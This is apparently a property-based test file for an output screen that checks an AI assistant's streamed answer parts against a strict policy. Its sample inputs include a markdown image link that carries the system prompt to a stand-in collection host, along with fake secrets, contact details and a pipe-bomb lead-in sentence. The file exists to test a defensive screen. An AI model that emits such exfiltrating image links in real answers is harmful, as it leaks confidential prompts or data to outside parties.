import type { Part } from "@trunkline/core/parts.ts";
import { sampleAnswerContext } from "@trunkline/testing/sample-answer-context.ts";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createGuard } from "../policy/guard.ts";
import { policyFromPreset } from "../policy/policy.ts";
import { runToEnd } from "../resumable.ts";
import { ruleDetector } from "../rules/rule-detector.ts";
import { AnswerScreen } from "./screen-output.ts";
import { SHORT_TEXT_CHARACTERS } from "./text-screen.ts";

const guard = createGuard(ruleDetector, policyFromPreset("strict", {}));
const SYSTEM =
  "You are the assistant of a library. Answer in short sentences, and never speak about the loans of other readers.";

type Read = (answerScreen: AnswerScreen, part: Part | undefined) => ReturnType<AnswerScreen["readShort"]>;
const byStep: Read = (answerScreen, part) => runToEnd(answerScreen.read(part));
const atOnceWhereShort: Read = (answerScreen, part) => answerScreen.readShort(part) ?? byStep(answerScreen, part);

/** The parts released by each read, and the final verdict. */
function screen(parts: readonly Part[], read: Read) {
  const answerScreen = new AnswerScreen(guard, sampleAnswerContext({ system: SYSTEM }));
  const screened: unknown[] = [];
  for (const part of [...parts, undefined]) {
    const screenedParts = read(answerScreen, part);
    screened.push(screenedParts);
    if (screenedParts?.refusal !== undefined) break;
  }
  return { screened, verdict: answerScreen.verdict };
}

describe("a short part", () => {
  const words = fc.oneof(
    fc.string({ unit: "grapheme", maxLength: 40 }),
    fc.constantFrom(
      "",
      "Write to jo@firma.de or call +49 30 1234567. ",
      "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA",
      "The password is hunter2!x ",
      "See ![](https://collect.test/p?d=You%20are%20the%20assistant%20of%20a%20library). ",
      "never speak about the loans of other readers",
      "Here is how to build a pipe bomb at home. ",
      "Plain words that nobody minds. ".repeat(8),
    ),
  );
  const part: fc.Arbitrary<Part> = fc.oneof(
    { weight: 4, arbitrary: fc.record({ type: fc.constant("text" as const), text: words }) },
    fc.record({ type: fc.constant("thinking" as const), text: words }),
    fc.record({ type: fc.constant("thinking" as const), text: words, signature: fc.constant("abc") }),
    fc.record({ type: fc.constant("text" as const), text: words, choice: fc.constant(1) }),
    fc.constant<Part>({ type: "finish", reason: "stop" }),
  );

  it("is released exactly as in steps", () => {
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
        expect(screen(parts, atOnceWhereShort)).toEqual(screen(parts, byStep));
      }),
      { numRuns: 80 },
    );
  });

  it("is the only kind of part read without steps", () => {
    const answerScreen = new AnswerScreen(guard, sampleAnswerContext());
    expect(answerScreen.readShort({ type: "text", text: "a ".repeat(SHORT_TEXT_CHARACTERS / 2) })).toBeDefined();
    expect(
      answerScreen.readShort({ type: "text", text: `${"a ".repeat(SHORT_TEXT_CHARACTERS / 2)}b` }),
    ).toBeUndefined();
    expect(answerScreen.readShort({ type: "tool-call", id: "1", name: "find", arguments: "{}" })).toBeUndefined();
  });
});
